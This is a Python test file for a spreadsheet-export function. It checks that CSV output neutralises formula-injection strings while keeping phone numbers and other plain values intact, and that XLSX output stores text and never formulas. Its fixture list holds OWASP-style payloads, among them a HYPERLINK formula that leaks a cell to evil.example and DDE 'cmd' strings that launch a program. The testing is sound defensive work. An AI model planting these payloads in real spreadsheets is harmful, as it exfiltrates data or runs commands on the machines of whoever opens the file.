"""Exports are safe and faithful: CSV neutralises what a spreadsheet would execute but keeps plain
numbers (E.164 phones) as they are; XLSX writes real text cells, never formulas, with nothing added."""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

import polars as pl
import pytest
from openpyxl import load_workbook

from chertcast.export import write_table

# OWASP's CSV-injection payloads and their usual variants, then values that must stay as they are.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+1-1",
    "-",
    "+",
]
PLAIN = ["+14155550100", "+447400123456", "-12.5", "42", "Ada", "CRM-1000", "", "Zoë 👋"]


def test_csv_neutralises_payloads_and_keeps_plain_numbers(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    write_table(out, ["value"], [[v] for v in PAYLOADS + PLAIN])
    with out.open(encoding="utf-8-sig", newline="") as handle:
        cells = [row[0] for row in csv.reader(handle)][1:]
    assert cells[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert cells[len(PAYLOADS) :] == PLAIN  # an E.164 phone is written as it is, no apostrophe
    back = pl.read_csv(out, infer_schema=False)["value"].to_list()
    assert back[len(PAYLOADS) :] == PLAIN


@pytest.mark.parametrize("reader", ["openpyxl", "polars"])
def test_xlsx_round_trip_is_exact_text_and_never_a_formula(tmp_path: Path, reader: str) -> None:
    out = tmp_path / "out.xlsx"
    values = [v for v in PAYLOADS + PLAIN if v and "\r" not in v]  # XML itself turns a bare CR into LF
    write_table(out, ["value", "n"], [[v, 7] for v in values])
    sheet_xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    if reader == "openpyxl":
        rows = list(load_workbook(out).active.iter_rows(values_only=True))  # type: ignore[union-attr]
        assert [r[0] for r in rows[1:]] == values and {r[1] for r in rows[1:]} == {7}  # numbers stay numbers
    else:
        frame = pl.read_excel(out, engine="calamine", infer_schema_length=0)
        assert frame["value"].to_list() == values
